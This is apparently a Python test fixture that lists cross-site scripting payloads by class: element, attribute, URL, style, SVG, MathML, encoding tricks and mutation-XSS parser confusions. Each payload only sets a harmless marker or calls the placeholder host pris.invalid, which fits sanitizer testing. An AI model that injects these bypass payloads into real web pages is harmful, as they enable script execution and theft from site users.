"""Texts that would run a script, or ask for something, if a page printed them as they are; by class.

Whatever runs sets `window.pris`, opens a dialog, or asks the host `pris.invalid` for something.
"""

from collections.abc import Mapping

HOST = "pris.invalid"
MARK = "window.pris=1"
_ASK = f"https://{HOST}/x"

VECTORS: Mapping[str, tuple[str, ...]] = {
    "element": (
        f"<script>{MARK}</script>",
        f"<ScRiPt src={_ASK}></sCrIpT>",
        f"<iframe srcdoc='<script>parent.pris=1</script>'></iframe><iframe src={_ASK}></iframe>",
        f"<object data={_ASK}></object><embed src={_ASK}>",
        f"<link rel=stylesheet href={_ASK}><base href=https://{HOST}/><meta http-equiv=refresh content='0;url={_ASK}'>",
        f"<form action={_ASK}><button autofocus formaction='javascript:{MARK}'>a</button></form>",
        f"<template shadowrootmode=open><script>{MARK}</script></template>",
        f"<video autoplay src={_ASK}></video><audio src={_ASK} autoplay></audio>",
        f"<img src={_ASK}><input type=image src={_ASK}>",
    ),
    "attribute": (
        f"<img src=x onerror={MARK}>",
        f"<p onmouseover={MARK} onfocus={MARK} tabindex=0 autofocus>a</p>",
        f"<strong/onpointerenter={MARK}/onclick={MARK}>a</strong>",
        f"<details open ontoggle={MARK}>a</details>",
        f"<a href=https://a.example/ onclick={MARK} style=position:fixed;inset:0>a</a>",
        f"<p\x0conclick={MARK}\x0cid=main\x0cclass=visually-hidden>a</p>",
        f'"><img src=x onerror={MARK}>',
        f"' autofocus onfocus={MARK} x='",
    ),
    "url": (
        f"<a href='javascript:{MARK}'>a</a>",
        f"<a href=' \x01java\tscr\nipt:{MARK}'>a</a>",
        f"<a href='&#106;avascript&colon;{MARK}'>a</a>",
        "<a href='data:text/html,<script>opener.pris=1</script>'>a</a>",
        f"<a href='vbscript:{MARK}'>a</a><a href='blob:x'>a</a><a href='//{HOST}/x'>a</a><a href='/deconnexion/'>a</a>",
        f"<a ping={_ASK} href='https://a.example/' target=_self download>a</a>",
        "<iframe src='javascript:parent.pris=1'></iframe>",
    ),
    "style": (
        f"<style>@import '{_ASK}'; body{{background:url({_ASK})}}</style>",
        f"<p style='background:url({_ASK})'>a</p>",
        f"<p style=\"background:image-set('{_ASK}' 1x)\">a</p>",
        f"<style><img src=x onerror={MARK}></style>",
        f"<p style='animation:x 1s' onanimationstart={MARK}>a</p><style>@keyframes x{{}}</style>",
        f"<xss style=display:block;transition:outline.1s ontransitionend={MARK} id=x tabindex=1>a</xss>",
    ),
    "svg": (
        f"<svg onload={MARK}></svg>",
        f"<svg><script>{MARK}</script></svg>",
        f"<svg><a xlink:href='javascript:{MARK}'><text y=20>a</text></a></svg>",
        f"<svg><animate onbegin={MARK} attributeName=x dur=1s></svg>",
        f"<svg><image href={_ASK} /><use href='{_ASK}#a' /></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.pris=1</script>'></iframe></foreignObject></svg>",
        f"<svg><style><!--</style><img src=x onerror={MARK}>--></style></svg>",
    ),
    "mathml": (
        f"<math href='javascript:{MARK}'>a</math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></table></math>",
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={MARK}></annotation-xml></math>",
        f"<math><maction actiontype='statusline#http://a' xlink:href='javascript:{MARK}'>a</maction></math>",
        f"<math><mi xlink:href='data:x,<script>{MARK}</script>'>a</mi></math>",
    ),
    "encoding": (
        f"&lt;script&gt;{MARK}&lt;/script&gt;",
        f"&amp;lt;img src=x onerror={MARK}&amp;gt;",
        f"\ufeff<img\x00 src=x\x00 onerror={MARK}>",
        f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
        f"%3Cimg src=x onerror={MARK}%3E",
        f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e",
        f"\\u003cimg src=x onerror={MARK}\\u003e",
        f"\x1b$B<img src=x onerror={MARK}>\x1b(B",
        "{{ 7*7 }}{% raw %}<script>" + MARK + "</script>{% endraw %}",
    ),
    "mutation": (
        f"<noscript><p title='</noscript><img src=x onerror={MARK}>'></noscript>",
        f"<textarea><p title='</textarea><img src=x onerror={MARK}>'></textarea>",
        f"<title><p title='</title><img src=x onerror={MARK}>'></title>",
        f"<svg></p><style><a id='</style><img src=x onerror={MARK}>'></style></svg>",
        f"<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={MARK} src=1>'></math>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={MARK}></style></form>",
        f"<!--><img src=x onerror={MARK}>--!><img src=x onerror={MARK}>-->",
        f"<![CDATA[><img src=x onerror={MARK}>]]>",
        f"<a href='https://a.example/`<img src=x onerror={MARK}>'>a</a>",
        f"<listing>&lt;img src=x onerror={MARK}&gt;</listing><xmp></xmp><img src=x onerror={MARK}><plaintext>",
        f"<p><svg><p><style><p title='</style><img src=x onerror={MARK}>'>",
        f"<select><option><style></option></select><img src=x onerror={MARK}></style>",
        f"{'<em>' * 600}<img src=x onerror={MARK}>",
    ),
}  # fmt: skip
ALL = tuple(one for some in VECTORS.values() for one in some)
